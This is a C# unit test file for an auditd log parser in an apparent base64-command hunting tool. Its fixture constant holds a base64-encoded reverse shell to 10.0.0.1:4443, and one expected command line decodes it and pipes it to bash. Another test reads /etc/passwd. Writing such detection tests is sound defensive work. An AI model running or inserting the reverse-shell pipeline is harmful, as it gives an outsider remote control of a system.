using System;
using System.Linq;
using System.Text;
using B64Hunt.Errors;
using B64Hunt.Model;
using B64Hunt.Sources;
using Xunit;
using static B64Hunt.Tests.Sources.SourceTestSupport;

namespace B64Hunt.Tests.Sources
{
    public class AuditdReaderTests
    {
        private const string B64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQzIDA+JjE=";

        [Fact]
        public void HexArgumentsAreDecodedAndSyscallAttached()
        {
            string path = Fixture("audit.log");
            var records = Read(path).Records;
            var first = records[0];
            Assert.Equal("/bin/sh -c iptables --version", first.CommandLine);
            Assert.Equal(Utc(1551487424869), first.TimeGenerated);
            Assert.Equal("uid=0", first.Account);
            Assert.Null(first.AuditAccount); // auid 4294967295 = unset
            Assert.Equal("sh", first.ProcessName);
            Assert.Equal("/bin/dash", first.ExecutablePath);
            Assert.Equal(path + ":2", first.Source); // the event's first EXECVE line
            Assert.Null(first.Computer);
        }

        [Fact]
        public void ChunkedArgumentOfAnInterleavedEventIsJoinedInOrderWithInterpretedNames()
        {
            var record = Read(Fixture("audit.log")).Records[1];
            Assert.Equal("bash -c echo " + B64 + " | base64 -d | bash", record.CommandLine);
            Assert.Equal("alice", record.Account);       // UID="alice" after the GS separator
            Assert.Equal("alice", record.AuditAccount);  // AUID="alice"
            Assert.Equal("bash", record.ProcessName);
            Assert.EndsWith(":5", record.Source);
        }

        [Fact]
        public void NodePrefixNamesTheComputerAndSyscallAfterExecveStillAttaches()
        {
            var record = Read(Fixture("audit.log")).Records[2];
            Assert.Equal("logger -t zfs-backup -p daemon.err zfs incremental backup of rpool/lxd failed: ", record.CommandLine);
            Assert.Equal("test", record.Computer);
            Assert.Equal("uid=0", record.Account);
            Assert.Equal("/usr/bin/logger", record.ExecutablePath);
            Assert.Equal(Utc(1521757638392), record.TimeGenerated);
            Assert.EndsWith(":11", record.Source);
        }

        [Fact]
        public void EventWithoutEoeIsFlushedAtTheEndAndMalformedRecordsAreReported()
        {
            string path = Fixture("audit.log");
            var result = Read(path);
            Assert.Equal(4, result.Records.Count);
            Assert.Equal("iptables --version", result.Records[3].CommandLine);
            Assert.Equal(new[] { path + ":15", path + ":16" }, result.Problems.Select(p => (string)p.Target!));
            Assert.All(result.Problems, p => Assert.Equal(ErrorIds.MalformedAuditdRecord, p.ErrorId));
            Assert.All(result.Problems, p => Assert.Equal(ProblemKind.InvalidData, p.Kind));
            Assert.Equal(2, result.Stats.Malformed);
            Assert.Equal(16, result.Stats.LinesRead);
            Assert.Equal(3, result.Stats.LinesSkipped); // CWD, PATH, PROCTITLE
        }

        [Fact]
        public void OldestOpenEventIsEmittedWhenTheBufferIsFull()
        {
            // Three interleaved events, none with EOE, and room for two: the first is emitted when the third arrives.
            string log =
                "type=EXECVE msg=audit(1700000000.000:1): argc=1 a0=\"one\"\n" +
                "type=EXECVE msg=audit(1700000000.000:2): argc=1 a0=\"two\"\n" +
                "type=EXECVE msg=audit(1700000000.000:3): argc=1 a0=\"three\"\n" +
                "type=EXECVE msg=audit(1700000000.000:2): argc=2 a1=\"late\"\n";
            var options = new LogReadOptions { MaxOpenAuditEvents = 2 };
            var result = ReadBytes(Encoding.ASCII.GetBytes(log), "a.log", options);
            Assert.Equal(new[] { "one", "two late", "three" }, result.Records.Select(r => r.CommandLine));
        }

        [Fact]
        public void EventsOfDifferentNodesWithTheSameSerialStayApart()
        {
            string log =
                "node=a type=EXECVE msg=audit(1700000000.000:7): argc=1 a0=\"ls\"\n" +
                "node=b type=EXECVE msg=audit(1700000000.000:7): argc=1 a0=\"id\"\n" +
                "node=a type=EOE msg=audit(1700000000.000:7): \n" +
                "node=b type=EOE msg=audit(1700000000.000:7): \n";
            var records = ReadBytes(Encoding.ASCII.GetBytes(log), "n.log").Records;
            Assert.Equal(new[] { "a:ls", "b:id" }, records.Select(r => r.Computer + ":" + r.CommandLine));
        }

        [Fact]
        public void SyslogPrefixedAuditdRecordsUseTheSyslogHost()
        {
            string log =
                "Mar  1 12:00:01 host7 audispd: type=EXECVE msg=audit(1709294401.000:5): argc=2 a0=\"cat\" a1=\"/etc/passwd\"\n" +
                "Mar  1 12:00:01 host7 audispd: type=EOE msg=audit(1709294401.000:5): \n";
            var record = Assert.Single(ReadBytes(Encoding.ASCII.GetBytes(log), "s.log").Records);
            Assert.Equal("cat /etc/passwd", record.CommandLine);
            Assert.Equal("host7", record.Computer);
            Assert.Equal(Utc(1709294401000), record.TimeGenerated);
        }

        [Fact]
        public void FilterAppliesToTheJoinedArguments()
        {
            var options = new LogReadOptions { CommandLineFilter = c => c.Contains("base64") };
            var result = Read(Fixture("audit.log"), options);
            var record = Assert.Single(result.Records);
            Assert.StartsWith("bash -c echo", record.CommandLine);
            Assert.Equal(3, result.Stats.RecordsFiltered);
        }

        [Fact]
        public void LineOverTheLimitIsSkippedWithLineTooLong()
        {
            string log =
                "type=EXECVE msg=audit(1700000000.000:1): argc=2 a0=\"echo\" a1=\"" + new string('A', 200) + "\"\n" +
                "type=EOE msg=audit(1700000000.000:1): \n";
            var result = ReadBytes(Encoding.ASCII.GetBytes(log), "big.log", new LogReadOptions { MaxLineLength = 150 });
            Assert.Empty(result.Records);
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.LineTooLong, problem.ErrorId);
            Assert.Equal(ProblemKind.LimitsExceeded, problem.Kind);
            Assert.Equal("big.log:1", problem.Target);
        }

        [Fact]
        public void ChunksAddingUpOverTheLimitMakeTheEventMalformed()
        {
            // Each line is under the limit (120) but the argument bytes add up past it at chunk 5 (line 6).
            string chunk = new string('4', 40); // 20 bytes of '@'
            var log = new StringBuilder("type=EXECVE msg=audit(1700000000.000:1): argc=2 a0=\"echo\" a1_len=280 a1[0]=" + chunk + "\n");
            for (int k = 1; k < 7; k++) log.Append("type=EXECVE msg=audit(1700000000.000:1): a1[" + k + "]=" + chunk + "\n");
            log.Append("type=EOE msg=audit(1700000000.000:1): \n");
            var result = ReadBytes(Encoding.ASCII.GetBytes(log.ToString()), "chunks.log", new LogReadOptions { MaxLineLength = 120 });
            Assert.Empty(result.Records);
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MalformedAuditdRecord, problem.ErrorId);
            Assert.Equal("chunks.log:6", problem.Target);
        }

        [Fact]
        public void ChunksArrivingOutOfOrderAreJoinedByIndex()
        {
            string log =
                "type=EXECVE msg=audit(1700000000.000:1): argc=2 a0=\"echo\" a1_len=6 a1[1]=\"def\"\n" +
                "type=EXECVE msg=audit(1700000000.000:1): a1[0]=\"abc\"\n" +
                "type=EOE msg=audit(1700000000.000:1): \n";
            var record = Assert.Single(ReadBytes(Encoding.ASCII.GetBytes(log), "o.log").Records);
            Assert.Equal("echo abcdef", record.CommandLine);
        }
    }
}
